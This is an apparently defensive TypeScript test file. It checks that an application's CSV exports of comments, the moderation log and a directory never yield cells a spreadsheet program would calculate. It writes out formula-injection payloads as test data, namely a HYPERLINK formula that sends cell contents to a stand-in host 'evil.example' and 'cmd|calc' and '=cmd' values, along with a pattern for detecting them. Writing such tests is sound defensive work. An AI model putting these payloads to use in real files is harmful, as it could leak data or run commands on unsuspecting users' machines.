import assert from 'node:assert/strict';
import { PassThrough } from 'node:stream';
import { text } from 'node:stream/consumers';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { exportComments } from '../../src/transfer/export-comments.ts';
import { Client, firstAdmin } from '../support/client.ts';
import { ENTRY, postEntry } from '../support/directory.ts';
import { screenByMarker } from '../support/fake-screen.ts';
import { startTestServer } from '../support/server.ts';
import { decideOn, screened } from '../support/stored.ts';

/** What spreadsheet programs take for the beginning of a formula; fullwidth where the keyboard is an Asian one. */
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const formulas = (words: string) =>
  SIGNS.flatMap((sign) => [`${sign}${words}`, ` ${sign}${words}`, `'${sign}${words}`, `"${sign}${words}`]);

/** Every cell of a file, and none that would be calculated. */
function cellsOf(csv: string): string[] {
  const rows: string[][] = parse(csv, { bom: true });
  assert.ok(rows.length > 1);
  for (const cell of rows.flat()) {
    assert.doesNotMatch(cell, /^[=+\-@＝＋－＠\t\r]/, cell);
  }
  return rows.flat();
}

test('no cell of an exported comment, of the log or of the directory is calculated by a spreadsheet program', async (t) => {
  const server = await startTestServer(t, { overrides: { screen: screenByMarker } });
  const admin = await firstAdmin(server);
  const visitor = new Client(server);
  const words = 'HYPERLINK("https://evil.example/?"&A1)';
  for (const [index, formula] of formulas(words).entries())
    await screened(server, visitor, `${formula} und mehr`, { name: formulas('cmd|calc')[index] ?? '' });
  const out = new PassThrough();
  const [csv] = await Promise.all([
    text(out),
    exportComments(server.deps, { format: 'csv', withAddresses: true }, out),
  ]);
  const comments = cellsOf(csv);
  assert.ok(comments.filter((cell) => cell.includes('HYPERLINK')).length >= 30);

  const signed = await admin.colleague(server, 'moderator', 'Bea');
  const named = await signed.post('/desk/account', { csrf: await signed.csrf(), name: '=cmd', lang: '' });
  assert.equal(named.status, 303);
  const { id } = await screened(server, visitor, 'Noch einer.');
  await decideOn(signed, id, 'approval');
  const log = cellsOf(await (await admin.get('/desk/log.csv?from=2020-01-01&to=2099-01-01')).text());
  assert.ok(
    log.some((cell) => cell.endsWith('=cmd')),
    'the name of who decided is there',
  );

  const { id: _, ...entry } = { ...ENTRY, id: '' };
  const formula = formulas(words);
  for (let at = 0; at < formula.length; at += 4) {
    const [organization = '', name = '', eligibility = '', schedule = ''] = formula.slice(at, at + 4);
    const response = await postEntry(admin, '/desk/directory', {
      ...entry,
      organization,
      name,
      eligibility,
      schedule,
      description_de: name,
    });
    assert.equal(response.status, 303, organization);
  }
  const file = cellsOf(
    await (await admin.get('/desk/directory/exchange/file?format=csv&recipients=1')).text(),
  );
  assert.ok(file.filter((cell) => cell.includes('HYPERLINK')).length >= 30);
});
